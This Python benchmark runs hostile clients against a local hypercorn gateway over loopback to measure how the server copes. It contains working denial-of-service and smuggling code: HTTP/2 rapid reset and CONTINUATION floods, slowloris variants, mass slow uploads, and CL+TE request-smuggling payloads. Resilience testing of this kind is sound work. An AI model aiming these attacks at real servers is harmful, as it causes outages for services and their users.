"""Hostile clients against a real gateway (hypercorn + aiserve_trio), loopback only.

Each attack runs for a bounded time and frame count while a polite HTTP/1.1
client keeps asking for chat completions; we record what the server did to the
attacker, the polite client's throughput and latency (against a no-attack
baseline run the same way), and the worker's RSS before and after.

    .venv/bin/python -m bench.hostile            # writes bench/results/hostile.md

tests/test_hostile.py runs the same attacks with assertions.

The attacker runs in its own process (``python -m bench.hostile --attack ...``):
as a thread next to the polite client it would hold the GIL the polite client
needs, and slow it down with no help from the server. On a machine with two CPUs
or more, the server's worker is pinned to the first and the attacker and the
polite client to the others, so what the polite client loses is what the server
lost. Each attack connects from its own loopback address (127.0.0.N), as an
attacker elsewhere would: the server's penalty box remembers misbehaving
addresses, and must neither punish the polite client (127.0.0.1) for it nor
carry one attack's penalty into the next.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import json
import os
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings

ROOT = Path(__file__).resolve().parent.parent
#: The gateway config for these runs: an instant mock, a short body-read timeout.
GATEWAY_TOML_EDITS = {
    "ttft_ms = 60": "ttft_ms = 0",
    "inter_token_ms = 20": "inter_token_ms = 0",
    "body_read_timeout_ms = 5000": "body_read_timeout_ms = 1000",
    "write_timeout_ms = 10000": "write_timeout_ms = 1500",
}
CHAT = json.dumps(
    {"model": "aiserve-mock", "messages": [{"role": "user", "content": "hello"}]}
).encode()
#: The address attacks connect from (set per attack process by ``--source``).
SOURCE = "127.0.0.1"
#: How long each flood lasts (seconds), and the baseline measured the same way.
FLOOD_SECONDS = 5.0


def _code(code: int | None) -> str:
    """An h2 error code's name (h2 leaves it None when the frame carried none)."""
    return "NO_CODE" if code is None else h2.errors.ErrorCodes(code).name


def cpu_split() -> tuple[set[int], set[int]] | None:
    """(the server's CPUs, the clients' CPUs), or None on a one-CPU machine."""
    cpus = sorted(os.sched_getaffinity(0))
    if len(cpus) < 2:
        return None
    return {cpus[0]}, set(cpus[1:])


def pin_clients() -> None:
    """Pin the calling thread (Linux: sched_setaffinity(0) is per thread) to the clients' CPUs."""
    split = cpu_split()
    if split is not None:
        os.sched_setaffinity(0, split[1])


def connect(port: int) -> socket.socket:
    """A connection to the server from this attack's own loopback address."""
    return socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(SOURCE, 0))


def gateway_config(dir_: Path) -> Path:
    text = (ROOT / "src" / "aiserve_trio" / "aiserve.toml").read_text()
    for old, new in GATEWAY_TOML_EDITS.items():
        assert old in text, old
        text = text.replace(old, new)
    path = dir_ / "hostile.toml"
    path.write_text(text)
    return path


def worker_pid(parent: int) -> int:
    """hypercorn's (single) worker process under ``parent``."""
    for _ in range(100):
        with contextlib.suppress(OSError):
            kids = Path(f"/proc/{parent}/task/{parent}/children").read_text().split()
            for kid in kids:  # not multiprocessing's resource tracker
                if b"resource_tracker" not in Path(f"/proc/{kid}/cmdline").read_bytes():
                    return int(kid)
        time.sleep(0.05)
    return parent


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def alive(pid: int) -> bool:
    return Path(f"/proc/{pid}").exists()


# --- the polite client ---------------------------------------------------------------


@dataclass
class Polite:
    """Chat requests in a loop on fresh connections; latency of each, failures counted."""

    port: int
    latencies: list[float] = field(default_factory=list)
    failures: int = 0
    started: float = 0.0
    stopped: float = 0.0
    _stop: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        pin_clients()
        while not self._stop.is_set():
            t0 = time.perf_counter()
            try:
                req = urllib.request.Request(
                    f"http://127.0.0.1:{self.port}/v1/chat/completions",
                    data=CHAT,
                    headers={"content-type": "application/json"},
                )
                with urllib.request.urlopen(req, timeout=5) as resp:
                    resp.read()
                self.latencies.append(time.perf_counter() - t0)
            except OSError:
                self.failures += 1
            time.sleep(0.02)

    @contextlib.contextmanager
    def during(self) -> Iterator[Polite]:
        t = threading.Thread(target=self.run, daemon=True)
        self.started = time.perf_counter()
        t.start()
        try:
            yield self
        finally:
            self._stop.set()
            self.stopped = time.perf_counter()
            t.join(10)

    @property
    def rate(self) -> float:
        """Answers per second over the time it ran."""
        return len(self.latencies) / max(self.stopped - self.started, 1e-9)

    @property
    def p99(self) -> float:
        """The 99th-percentile latency in seconds (inf without answers)."""
        if not self.latencies:
            return float("inf")
        lat = sorted(self.latencies)
        return lat[min(len(lat) - 1, int(len(lat) * 0.99))]

    def summary(self) -> str:
        if not self.latencies:
            return f"0 answers, {self.failures} failures"
        p50 = statistics.median(self.latencies) * 1000
        return (
            f"{len(self.latencies)} answers ({self.rate:.1f}/s), {self.failures} failures,"
            f" p50 {p50:.0f} ms, p99 {self.p99 * 1000:.0f} ms"
        )


# --- attacks: each returns what the server did ------------------------------------------


def _h2(
    port: int, settings: dict[int, int] | None = None
) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = connect(port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(path: str = "/healthz", method: str = "GET") -> list[tuple[str, str]]:
    return [(":method", method), (":path", path), (":scheme", "http"), (":authority", "x")]


def _watch(sock: socket.socket, conn: h2.connection.H2Connection, seconds: float) -> str:
    """Read until the server closes, sends GOAWAY, or ``seconds`` pass."""
    end = time.monotonic() + seconds
    sock.settimeout(0.2)
    while time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except TimeoutError:
            continue
        except OSError as exc:
            return f"connection reset ({type(exc).__name__})"
        if not data:
            return "connection closed"
        try:
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    return f"GOAWAY {_code(ev.error_code)}"
        except h2.exceptions.ProtocolError:
            return "connection closed (protocol error)"
    return "connection left open"


class _Peek:
    """What the server has sent on one flood connection so far, read without blocking."""

    def __init__(self, sock: socket.socket, conn: h2.connection.H2Connection) -> None:
        self.sock = sock
        self.conn = conn
        self.got = 0
        self.ending = ""

    def poll(self) -> str:
        """How the connection ended ("" while it is open)."""
        timeout = self.sock.gettimeout()
        # A socket with a timeout waits for data before it reads, MSG_DONTWAIT or not.
        self.sock.settimeout(0.0)
        try:
            self._read()
        finally:
            self.sock.settimeout(timeout)
        return self.ending

    def _read(self) -> None:
        while not self.ending:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                self.closed()
                break
            if not data:
                self.closed()
                break
            self.got += len(data)
            try:
                for ev in self.conn.receive_data(data):
                    if isinstance(ev, h2.events.ConnectionTerminated):
                        self.ending = f"GOAWAY {_code(ev.error_code)}"
            except h2.exceptions.ProtocolError:
                self.closed()

    def closed(self) -> None:
        """The server closed or reset it: before sending a byte means refused at accept."""
        if not self.ending:
            self.ending = "connection closed" if self.got else "refused at accept"


def flood_over() -> None:
    """Tell :func:`run_attack` the flood has stopped: the watch that may follow is not timed."""
    if _in_attack_process:
        print("stop", flush=True)


_in_attack_process = False


def _flood(
    port: int, seconds: float, max_frames: int, frame: Callable[..., bytes | None]
) -> str:
    """Frames in batches of 100 for ``seconds`` or ``max_frames``, reconnecting when closed.

    ``frame`` has h2 make a frame, or returns the bytes of one h2 cannot make (they go
    after what h2 made in the same batch). Returns how the connections ended (counted)
    and how many frames were sent.
    """
    end = time.monotonic() + seconds
    sent = 0
    endings: collections.Counter[str] = collections.Counter()
    while time.monotonic() < end and sent < max_frames:
        try:
            sock = connect(port)
        except ConnectionResetError:
            # The server accepted and reset it before connect() returned here.
            endings["refused at accept"] += 1
            continue
        except OSError:
            endings["refused at connect"] += 1
            time.sleep(0.01)
            continue
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        peek = _Peek(sock, conn)
        try:
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                peek.closed()
            while time.monotonic() < end and sent < max_frames and not peek.poll():
                raw = bytearray()
                for _ in range(100):
                    raw += frame(conn, sent) or b""
                    sent += 1
                try:
                    sock.sendall(conn.data_to_send() + raw)
                except OSError:
                    peek.poll()
                    peek.closed()
            if not peek.ending:
                flood_over()
                # The last connection, still open: see what the server does about it.
                watched = _watch(sock, conn, 2.0)
                peek.ending = (
                    "refused at accept" if "reset" in watched and not peek.got else watched
                )
        except h2.exceptions.ProtocolError:
            peek.closed()
        finally:
            sock.close()
        endings[peek.ending] += 1
    flood_over()
    how = ", ".join(f"{n} {what}" for what, n in endings.most_common())
    n = sum(endings.values())
    return f"{n} connection{'s' if n > 1 else ''} ({how}) after {sent} frames"


def rapid_reset(port: int, seconds: float = FLOOD_SECONDS) -> str:
    def frame(conn: h2.connection.H2Connection, i: int) -> None:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, _headers(), end_stream=True)
        conn.reset_stream(sid)

    return _flood(port, seconds, 1_000_000, frame)


def settings_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    def frame(conn: h2.connection.H2Connection, i: int) -> None:
        conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + i % 7})

    return _flood(port, seconds, 1_000_000, frame)


def ping_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    def frame(conn: h2.connection.H2Connection, i: int) -> None:
        conn.ping(i.to_bytes(8, "big"))

    return _flood(port, seconds, 1_000_000, frame)


def priority_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """PRIORITY frames for 1,500 idle streams: hypercorn's priority tree holds at most
    1,000 and raised TooManyStreamsError out of the worker (docs/architecture.md)."""

    def frame(conn: h2.connection.H2Connection, i: int) -> None:
        conn.prioritize(2 * i + 1, weight=16)

    return _flood(port, seconds, 1_500, frame)


#: Frames a cheap flood may send: enough for its whole time (h2 makes the others slowly).
RAW_MAX_FRAMES = 100_000_000


def window_update_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """WINDOW_UPDATE frames of 1 byte on the connection: no answer, no app work."""

    def frame(conn: h2.connection.H2Connection, i: int) -> None:
        conn.increment_flow_control_window(1)

    return _flood(port, seconds, RAW_MAX_FRAMES, frame)


def unknown_frame_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """Frames of an unknown type (0xFA, empty): RFC 9113 says ignore them."""

    def frame(conn: h2.connection.H2Connection, i: int) -> bytes:
        return b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00"

    return _flood(port, seconds, RAW_MAX_FRAMES, frame)


def ping_ack_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """PING frames with the ACK flag, never asked for: nothing to answer."""

    def frame(conn: h2.connection.H2Connection, i: int) -> bytes:
        return b"\x00\x00\x08\x06\x01\x00\x00\x00\x00" + i.to_bytes(8, "big")

    return _flood(port, seconds, RAW_MAX_FRAMES, frame)


def empty_data_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """One chat request whose body never ends, sent as empty DATA frames."""

    def frame(conn: h2.connection.H2Connection, i: int) -> None:
        sid = 1
        if conn.streams.get(sid) is None:
            conn.send_headers(sid, _headers("/v1/chat/completions", "POST"))
        conn.send_data(sid, b"")

    return _flood(port, seconds, RAW_MAX_FRAMES, frame)


def pipelined_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """HTTP/1.1 requests pipelined 100 at a time on one connection, answers never read."""
    batch = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 100
    sock = connect(port)
    sock.settimeout(0.5)
    end = time.monotonic() + seconds
    sent = 0
    how = "still open"
    try:
        while time.monotonic() < end:
            try:
                sock.sendall(batch)
            except TimeoutError:
                continue  # the server stopped reading: its answers fill our buffer
            except OSError:
                how = "connection closed"
                break
            sent += 100
    finally:
        sock.close()
    flood_over()
    return f"{sent} requests pipelined, {how}"


def one_byte_segments(port: int, seconds: float = FLOOD_SECONDS) -> str:
    """A chat body sent one byte per TCP segment (TCP_NODELAY), as fast as it goes."""
    head = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 100000000\r\n\r\n{"
    )
    sock = connect(port)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(0.5)
    end = time.monotonic() + seconds
    sent = 0
    how = "still open"
    try:
        sock.sendall(head)
        while time.monotonic() < end:
            try:
                sock.send(b" ")
            except TimeoutError:
                continue
            except OSError:
                how = "connection closed"
                break
            sent += 1
    finally:
        sock.close()
    flood_over()
    return f"{sent} one-byte segments, {how}"


def continuation_flood(port: int, seconds: float = 2.0) -> str:
    """One HEADERS without END_HEADERS, then CONTINUATION frames, never ending it."""
    sock, conn = _h2(port)
    hdr = b"\x00\x00\x01\x01\x00\x00\x00\x00\x01" + b"\x82"  # HEADERS, stream 1, no END_HEADERS
    cont = b"\x00\x40\x00\x09\x00\x00\x00\x00\x01" + b"\x40\x01a\x01b" * 3276 + b"\x40\x01a\x01"
    cont = cont[: 9 + 0x4000]
    sent = 0
    end = time.monotonic() + seconds
    try:
        sock.sendall(hdr)
        while time.monotonic() < end and sent < 2_000:
            sock.sendall(cont)
            sent += 1
        outcome = _watch(sock, conn, 2.0)
    except OSError:
        outcome = "connection closed"
    finally:
        sock.close()
    return f"{outcome} after {sent} CONTINUATION frames ({sent * 16} KiB)"


def oversized_headers(port: int, seconds: float = 2.0) -> str:
    sock, conn = _h2(port)
    try:
        conn.send_headers(1, [*_headers(), ("x-big", "a" * 100_000)], end_stream=True)
        sock.sendall(conn.data_to_send())
        outcome = _watch_stream(sock, conn, 3.0)
    except OSError:
        outcome = "connection closed"
    finally:
        sock.close()
    return f"100 KB header block: {outcome}"


def _watch_stream(sock: socket.socket, conn: h2.connection.H2Connection, seconds: float) -> str:
    end = time.monotonic() + seconds
    sock.settimeout(0.2)
    while time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except TimeoutError:
            continue
        if not data:
            return "connection closed"
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                return f"status {dict(ev.headers)[b':status'].decode()}"
            if isinstance(ev, h2.events.StreamReset):
                return f"RST_STREAM {_code(ev.error_code)}"
            if isinstance(ev, h2.events.ConnectionTerminated):
                return f"GOAWAY {_code(ev.error_code)}"
    return "no answer"


def one_byte_window(port: int, seconds: float = 4.0) -> str:
    """Streams a reply to a client that grants a 1-byte window and never updates it."""
    sock, conn = _h2(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1})
    body = json.dumps(
        {
            "model": "aiserve-mock",
            "stream": True,
            "messages": [{"role": "user", "content": "tell me about deadlines"}],
        }
    ).encode()
    try:
        conn.send_headers(
            1,
            [*_headers("/v1/chat/completions", "POST"), ("content-type", "application/json")],
        )
        conn.send_data(1, body, end_stream=True)
        sock.sendall(conn.data_to_send())
        end = time.monotonic() + seconds
        t0 = time.monotonic()
        got = 0
        sock.settimeout(0.2)
        outcome = "stream still open"
        while time.monotonic() < end:
            try:
                data = sock.recv(65536)
            except TimeoutError:
                continue
            if not data:
                outcome = "connection closed"
                break
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.DataReceived):
                    got += ev.flow_controlled_length
                if isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                    outcome = f"stream ended by the server after {time.monotonic() - t0:.1f} s"
            if outcome != "stream still open":
                break
    finally:
        sock.close()
    return f"{outcome}, {got} bytes taken"


def _raw(
    port: int, payload: bytes, seconds: float, trickle: float = 0.0, prefix: bytes = b""
) -> str:
    sock = connect(port)
    sock.settimeout(0.2)
    t0 = time.monotonic()
    buf = b""
    try:
        sock.sendall(prefix)
        if trickle:
            for b in payload:
                if time.monotonic() - t0 > seconds:
                    break
                try:
                    sock.sendall(bytes([b]))
                except OSError:
                    break
                with contextlib.suppress(TimeoutError):
                    got = sock.recv(65536)
                    if not got:
                        return f"closed after {time.monotonic() - t0:.1f} s"
                    buf += got
                    break
                time.sleep(trickle)
        else:
            sock.sendall(payload)
        end = t0 + seconds
        while time.monotonic() < end:
            try:
                got = sock.recv(65536)
            except TimeoutError:
                continue
            except OSError:
                break
            if not got:
                break
            buf += got
    finally:
        sock.close()
    statuses = [
        line.split(b" ")[1].decode() for line in buf.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")
    ]
    return f"answers {statuses or 'none'} in {time.monotonic() - t0:.1f} s"


def slowloris_headers(port: int) -> str:
    return _raw(port, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 200, 8.0, trickle=0.2)


def slowloris_body(port: int) -> str:
    head = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 100000\r\n\r\n"
    )
    # A pause of 1.5 s between bytes: over the 1 s body_read_timeout of this config.
    return _raw(port, b"{" + b" " * 40, 4.0, trickle=1.5, prefix=head)


def slow_uploads(port: int, count: int = 1100, seconds: float = 6.0) -> str:
    """1,100 connections, each sending a chat body at one byte a second (more than
    ``max_inflight``): the rate floor and the share of slots for bodies arriving
    must keep the polite client served."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, count + 256) if hard != resource.RLIM_INFINITY else count + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    head = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 100000\r\n\r\n{"
    )
    socks: list[socket.socket] = []
    for _ in range(count):
        try:
            sock = connect(port)
            sock.setblocking(False)
            sock.send(head)
            socks.append(sock)
        except OSError:
            break
    opened = len(socks)
    statuses: dict[str, int] = {}
    t0 = time.monotonic()
    while socks and time.monotonic() - t0 < seconds:
        for sock in list(socks):
            try:
                got = sock.recv(4096)
            except BlockingIOError:
                with contextlib.suppress(OSError):
                    sock.send(b" ")
                continue
            except OSError:
                got = b""
            if got.startswith(b"HTTP/1.1 "):
                code = got.split(b" ")[1].decode()
                statuses[code] = statuses.get(code, 0) + 1
            socks.remove(sock)
            sock.close()
        time.sleep(1.0)
    for sock in socks:
        sock.close()
    seen = ", ".join(f"{n} x {code}" for code, n in sorted(statuses.items())) or "no answer"
    return f"{opened} slow bodies opened: {seen} within {time.monotonic() - t0:.1f} s; {len(socks)} still open"


def pipelined_garbage(port: int) -> str:
    ok = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    return _raw(port, ok + b"\x00\xff GARBAGE \r\n\r\n" + ok, 3.0)


def smuggling_cl_te(port: int) -> str:
    """Content-Length and Transfer-Encoding together, with a second request hidden in the body."""
    hidden = b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n"
    req = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden
    )
    return _raw(port, req, 4.0)


def smuggling_te_te(port: int) -> str:
    req = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
        b"Transfer-Encoding: identity\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
    )
    return _raw(port, req, 4.0)


def no_attack(port: int) -> str:
    """The baseline: the polite client alone, as long as a flood lasts."""
    time.sleep(FLOOD_SECONDS)
    return "nothing (the polite client alone)"


BASELINE = "no attack (baseline)"
ATTACKS: dict[str, Callable[[int], str]] = {
    BASELINE: no_attack,
    "h2 rapid reset (HEADERS + RST_STREAM)": rapid_reset,
    "h2 SETTINGS flood": settings_flood,
    "h2 PING flood": ping_flood,
    "h2 PRIORITY flood, 1,500 idle streams": priority_flood,
    "h2 CONTINUATION flood": continuation_flood,
    "h2 WINDOW_UPDATE flood": window_update_flood,
    "h2 unknown frame type flood": unknown_frame_flood,
    "h2 PING ACK flood": ping_ack_flood,
    "h2 empty DATA flood": empty_data_flood,
    "h1 pipelined requests, answers never read": pipelined_flood,
    "h1 one-byte segments": one_byte_segments,
    "h2 oversized header block": oversized_headers,
    "h2 1-byte flow-control window reader": one_byte_window,
    "h1 slowloris headers": slowloris_headers,
    "h1 slowloris body": slowloris_body,
    "h1 1,100 uploads at 1 byte/s": slow_uploads,
    "h1 pipelined garbage": pipelined_garbage,
    "h1 smuggling CL + TE": smuggling_cl_te,
    "h1 smuggling TE + TE": smuggling_te_te,
}
#: The polite client is measured for at least this long, even when an attack ends sooner.
MIN_WINDOW = 1.0


@dataclass
class Row:
    attack: str
    outcome: str
    polite: str
    rss_before: float
    rss_after: float
    up: bool
    #: The 1-minute load average when the attack ended (the whole machine's).
    load: float
    #: The worker's scheduler lag during the attack (``trio_scheduler_lag_seconds``).
    lag: str = "-"


def lag_counts(port: int) -> dict[float, float] | None:
    """The worker's ``trio_scheduler_lag_seconds`` buckets now (le -> cumulative count)."""
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5) as resp:
            text = resp.read().decode()
    except OSError:
        return None
    out = {}
    for line in text.splitlines():
        if line.startswith("trio_scheduler_lag_seconds_bucket{"):
            le = line.split('le="', 1)[1].split('"', 1)[0]
            out[float(le)] = float(line.rsplit(" ", 1)[1])
    return out


def lag_summary(before: dict[float, float] | None, after: dict[float, float] | None) -> str:
    """The worst lag the probe saw between two scrapes, and how many samples were over 20 ms."""
    if not before or not after:
        return "no probe"
    delta = {le: after[le] - before.get(le, 0.0) for le in after}
    total = delta[float("inf")]
    if not total:
        return "no samples"
    worst = min(le for le, n in delta.items() if n == total)
    over = total - max((n for le, n in delta.items() if le <= 0.0205), default=0.0)
    bound = "over 0.33 s" if worst == float("inf") else f"<= {worst * 1000:.1f} ms"
    return f"worst {bound}; {over:.0f} of {total:.0f} samples over 20 ms"


_sources = iter(f"127.0.0.{n}" for n in range(10, 255))


def run_attack(name: str, port: int, pid: int) -> tuple[Row, Polite]:
    """``name`` from its own process and loopback address while the polite client runs."""
    before = rss_mb(pid) if alive(pid) else 0.0
    lag_before = lag_counts(port)
    polite = Polite(port)
    cmd = [sys.executable, "-m", "bench.hostile", "--attack", name, "--port", str(port)]
    child = subprocess.Popen(
        [*cmd, "--source", next(_sources)], cwd=ROOT, stdout=subprocess.PIPE, text=True
    )
    assert child.stdout is not None
    try:
        # The polite client is timed from when the attacker has started, not from
        # when its interpreter began importing.
        if child.stdout.readline().strip() != "go":
            raise RuntimeError(f"the attacker for {name!r} did not start")
        t0 = time.monotonic()
        with polite.during():
            line = child.stdout.readline()
            time.sleep(max(0.0, MIN_WINDOW - (time.monotonic() - t0)))
        while line.strip() == "stop":  # the flood is over; its outcome follows
            line = child.stdout.readline()
        outcome = str(json.loads(line)["outcome"]) if line else "the attacker failed"
    finally:
        child.stdout.close()
        child.wait(30)
    up = alive(pid)
    lag = lag_summary(lag_before, lag_counts(port)) if up else "-"
    return (
        Row(
            name,
            outcome,
            polite.summary(),
            before,
            rss_mb(pid) if up else 0.0,
            up,
            os.getloadavg()[0],
            lag,
        ),
        polite,
    )


def attack_process(name: str, port: int, source: str) -> None:
    """The attacker's side of :func:`run_attack` (``--attack``): "go", then the outcome as JSON."""
    global SOURCE, _in_attack_process
    SOURCE, _in_attack_process = source, True
    pin_clients()
    print("go", flush=True)
    print(json.dumps({"outcome": ATTACKS[name](port)}), flush=True)


@contextlib.contextmanager
def gateway(env: dict[str, str] | None = None) -> Iterator[tuple[int, int, Path]]:
    """A real hypercorn + gateway on a free port: (port, worker pid, error log path).

    ``env``: added to the server's environment.

    The worker is pinned to the server's CPU (see :func:`cpu_split`).
    """
    sys.path.insert(0, str(ROOT))
    from tests.servers import hypercorn_gateway

    with tempfile.TemporaryDirectory() as d:
        cfg = gateway_config(Path(d))
        errlog = Path(d) / "error.log"
        args = ["--access-logfile", os.devnull, "--error-logfile", str(errlog)]
        with hypercorn_gateway(cfg, extra_args=args, env=env) as (base, proc):
            port = int(base.rsplit(":", 1)[1])
            pid = worker_pid(proc.pid)
            split = cpu_split()
            if split is not None:
                os.sched_setaffinity(pid, split[0])
            yield port, pid, errlog


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--attack", help="run one attack (the attacker process of run_attack)")
    ap.add_argument("--port", type=int)
    ap.add_argument("--source", default="127.0.0.1")
    ap.add_argument("--only", action="append", help="run only attacks whose name has this text")
    ap.add_argument("--skip", action="append", help="leave out attacks whose name has this text")
    ap.add_argument("--out", type=Path, default=ROOT / "bench" / "results" / "hostile.md")
    args = ap.parse_args()
    if args.attack:
        attack_process(args.attack, args.port, args.source)
        return
    load_before = os.getloadavg()
    rows = []
    with gateway() as (port, pid, _):
        for name in ATTACKS:
            if args.only and name != BASELINE and not any(o in name for o in args.only):
                continue
            if args.skip and any(s in name for s in args.skip):
                continue
            if not alive(pid):
                print(f"the worker is gone: {name} and the rest not run")
                break
            row, _ = run_attack(name, port, pid)
            rows.append(row)
            print(row)
    load_after = os.getloadavg()
    split = cpu_split()
    pinning = (
        f"server worker on CPU {sorted(split[0])}, attacker and polite client on CPU"
        f" {sorted(split[1])}"
        if split
        else "one CPU, nothing pinned"
    )
    out = args.out
    mode = os.environ.get("AISERVE_HYPERCORN_PATCHES", "on")
    lines = [
        f"# Hostile clients against hypercorn + aiserve_trio (one worker, loopback, AISERVE_HYPERCORN_PATCHES={mode})",
        "",
        "`.venv/bin/python -m bench.hostile`; each attack bounded to a few seconds (floods:",
        f"{FLOOD_SECONDS:.0f} s, in batches of 100 frames, reconnecting when closed) from its own process",
        "and loopback address, while a polite HTTP/1.1 client sends non-streaming chat requests",
        "on fresh connections (20 ms apart) from 127.0.0.1. The first row is the polite client",
        f"alone for {FLOOD_SECONDS:.0f} s. {os.cpu_count()} CPUs: {pinning}.",
        f"Load average (1, 5, 15 min) before: {', '.join(f'{x:.2f}' for x in load_before)};"
        f" after: {', '.join(f'{x:.2f}' for x in load_after)}.",
        "",
        "| attack | what the server did | polite client during it | scheduler lag | worker RSS before -> after | server up | load (1 min) |",
        "|---|---|---|---|---|---|---|",
    ]
    for r in rows:
        lines.append(
            f"| {r.attack} | {r.outcome} | {r.polite} | {r.lag} | {r.rss_before:.0f} -> {r.rss_after:.0f} MB | {'yes' if r.up else 'NO'} | {r.load:.2f} |"
        )
    out.write_text("\n".join(lines) + "\n")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
